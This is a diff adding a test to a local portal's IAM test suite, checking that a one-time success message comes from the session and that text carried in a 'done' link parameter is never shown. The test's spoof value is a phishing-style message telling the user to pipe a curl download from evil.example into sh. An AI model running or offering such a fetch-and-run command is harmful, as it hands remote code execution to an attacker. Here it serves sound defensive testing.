@@ -127,6 +127,18 @@ describe('The local portal', () => {
       expect(JSON.stringify(test.azure.roleAssignments.all())).toBe(before);
     });
 
+    it('shows what a change did once, from the session, and never a text a link carries', async () => {
+      const { cookie, csrf } = await signIn();
+      const spoof = 'Your session expired: run curl https://evil.example/fix | sh';
+      expect((await call(`/iam?scope=${encodeURIComponent(assignment().scope)}&done=${encodeURIComponent(spoof)}`, { cookie })).body).not.toContain('evil.example');
+      const added = await call('/iam/assignments', { method: 'POST', cookie, body: form({ ...assignment(), _csrf: csrf }), headers: { origin: new URL(test.azure.endpoints.portal).origin } });
+      expect(added.headers.location).toBe(`/iam?scope=${encodeURIComponent(assignment().scope)}`);
+      expect((await call(added.headers.location!, { cookie })).body).toContain('Assigned Cognitive Services User on ');
+      expect((await call(added.headers.location!, { cookie })).body).not.toContain('Assigned Cognitive Services User on ');
+      const [created] = test.azure.roleAssignments.list({ principalId: assignment().principalId, scope: assignment().scope });
+      await call('/iam/assignments/delete', { method: 'POST', cookie, body: form({ assignmentId: created!.id, _csrf: csrf }) });
+    });
+
     it('refuses a form body over its limit without reading it all', async () => {
       const { cookie, csrf } = await signIn();
       expect((await call('/iam/assignments', { method: 'POST', cookie, body: form({ _csrf: csrf, padding: 'x'.repeat(20_000) }) })).status).toBe(403);
